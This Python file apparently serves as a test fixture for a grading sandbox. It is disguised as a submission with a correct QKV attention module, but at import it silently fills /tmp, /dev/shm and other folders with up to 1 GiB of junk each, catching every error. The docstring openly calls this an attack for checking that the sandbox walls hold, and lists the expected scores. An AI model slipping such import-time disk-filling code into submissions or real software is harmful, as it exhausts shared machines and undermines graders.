"""Attack: fill the disk and shared memory from the worker.

At import it writes files named grader-attack-fill-<pid>-<n>, 32 MiB each, 1 MiB at a time, into
tempfile.gettempdir(), /tmp, /dev/shm (memory, not disk), the current folder and its own folder (the
submission's), until a write fails or 1 GiB is in each place — bounded so as not to fill the
self-test's machine with no wall at all; a real one would go on until the disk is full. Every error
is caught and the import goes on. With the walls up (nothing writable), not one byte is written;
files of more than 1 MB left in /tmp or /dev/shm after the run mean a wall failed.

The QKV itself is right. Honest points: ex3 15/15, as its twin, twin-ex3-fill_tmp, gets. Every
other exercise: full marks.
"""
import os
import tempfile

import torch.nn as nn

HERE = os.path.dirname(os.path.abspath(__file__))
MiB = 1 << 20


def _fill(place, limit=1024 * MiB, size=32 * MiB):
    chunk = b"\x00" * MiB
    written, n = 0, 0
    while written < limit:
        path = os.path.join(place, f"grader-attack-fill-{os.getpid()}-{n}")
        n += 1
        try:
            with open(path, "wb") as f:
                for _ in range(size // MiB):
                    f.write(chunk)
                    written += MiB
        except OSError:
            return


for place in (tempfile.gettempdir(), "/tmp", "/dev/shm", os.getcwd(), HERE):
    try:
        _fill(place)
    except BaseException:
        pass


class QKV(nn.Module):
    def __init__(self, n_embd, head_size):
        super().__init__()
        self.query = nn.Linear(n_embd, head_size, bias=False)
        self.key = nn.Linear(n_embd, head_size, bias=False)
        self.value = nn.Linear(n_embd, head_size, bias=False)

    def forward(self, x):
        return self.query(x), self.key(x), self.value(x)  # each (B, T, head_size)
